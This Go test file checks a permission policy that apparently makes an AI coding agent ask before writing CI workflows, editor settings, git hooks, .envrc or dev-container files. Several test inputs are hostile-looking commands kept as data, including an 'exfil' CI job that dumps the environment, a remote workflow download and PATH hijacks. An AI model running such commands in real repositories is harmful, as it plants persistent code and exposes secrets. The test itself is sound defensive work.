package policy

import "testing"

// TestPersistenceFilesInWorkspace: a file in the workspace that makes code
// run later — on the next push (CI workflows and pipelines), when the
// folder is opened or a terminal starts (VS Code tasks and settings, dev
// containers), on the next commit (husky, pre-commit, lefthook) or on cd
// (direnv's .envrc) — asks, however it is written: a file tool, a
// redirection, tee, cp or mv into the directory, a download, an in-place
// edit. Reading them, making the directory, and the project's other files
// stay allowed.
func TestPersistenceFilesInWorkspace(t *testing.T) {
	p := mustDefault(t)
	patch := func(body string) Call {
		return Call{Tool: "apply_patch", Args: map[string]any{"input": body}, Cwd: ws, Workspace: ws}
	}
	runCases(t, p, []decideCase{
		// CI that runs with the repository's secrets
		{call: tool2("write", ".github/workflows/deploy.yaml"), want: Ask, rule: "workspace-ci-write"},
		{call: tool2("edit", "services/api/.github/workflows/test.yml"), want: Ask},
		{call: tool2("write", ".github/actions/setup/action.yml"), want: Ask},
		{call: tool2("write", ".gitlab-ci.yml"), want: Ask},
		{call: tool2("write", ".circleci/config.yml"), want: Ask},
		{call: tool2("edit", "Jenkinsfile"), want: Ask},
		{call: tool2("write", ".gitlab/ci/deploy.yml"), want: Ask},
		{call: tool2("write", ".woodpecker/build.yaml"), want: Ask},
		{call: tool2("write", "cloudbuild.yaml"), want: Ask},
		{call: tool2("write", ".gitlab/issue_templates/bug.md"), want: Allow},
		{call: patch("*** Begin Patch\n*** Add File: .github/workflows/nightly.yml\n+on: schedule\n*** End Patch"), want: Ask},
		{call: bash("printf 'on: [push]\\n' > .github/workflows/lint.yml"), want: Ask},
		{call: bash("cat >> .gitlab-ci.yml <<'YAML'\nexfil:\n  script: env\nYAML"), want: Ask},
		{call: bash("echo 'steps: []' | tee -a .github/workflows/ci.yaml >/dev/null"), want: Ask},
		{call: bash("cp templates/release.yml .github/workflows/"), want: Ask},
		{call: bash("mv /tmp/w.yml .github/workflows/w.yml"), want: Ask},
		{call: bash("wget -qO .github/workflows/x.yml https://example.com/x.yml"), want: Ask},
		{call: bash("sed -i 's/ubuntu-22.04/ubuntu-24.04/' .github/workflows/*.yml"), want: Ask},
		{call: bash("cd .github/workflows && echo x > y.yml"), want: Ask},
		// editor, hooks, direnv, dev containers
		{call: tool2("write", ".vscode/settings.json"), want: Ask, rule: "workspace-autorun-write"},
		{call: tool2("edit", "frontend/.vscode/tasks.json"), want: Ask},
		{call: bash("echo '{\"terminal.integrated.env.linux\":{\"PATH\":\"/tmp/x\"}}' > .vscode/settings.json"), want: Ask},
		{call: bash("printf 'npx lint-staged\\n' > .husky/pre-commit"), want: Ask},
		{call: bash("jq '.\"python.defaultInterpreterPath\"=\"/tmp/py\"' .vscode/settings.json | sponge .vscode/settings.json"), want: Ask},
		{call: bash("cp hooks/commit-msg .husky/"), want: Ask},
		{call: tool2("write", ".pre-commit-config.yaml"), want: Ask},
		{call: bash("echo 'pre-commit: {commands: {x: {run: make}}}' > lefthook.yml"), want: Ask},
		{call: tool2("write", ".envrc"), want: Ask},
		{call: bash("echo 'source_up' >> sub/.envrc"), want: Ask},
		{call: tool2("write", ".devcontainer/devcontainer.json"), want: Ask},
		// everyday
		{call: tool2("read", ".github/workflows/ci.yml"), want: Allow},
		{call: bash("cat .github/workflows/*.yml | grep runs-on"), want: Allow},
		{call: bash("mkdir -p .github/workflows .husky"), want: Allow},
		{call: tool2("write", ".github/CODEOWNERS"), want: Allow},
		{call: tool2("write", ".github/pull_request_template.md"), want: Allow},
		{call: tool2("write", ".vscode/extensions.json"), want: Allow},
		{call: tool2("write", "docs/ci.md"), want: Allow},
		{call: bash("cp .envrc.example /tmp/envrc.txt"), want: Allow},
		{call: bash("git add .github/workflows/ci.yml && git commit -m 'ci: cache go modules'"), want: Allow},
	})
}
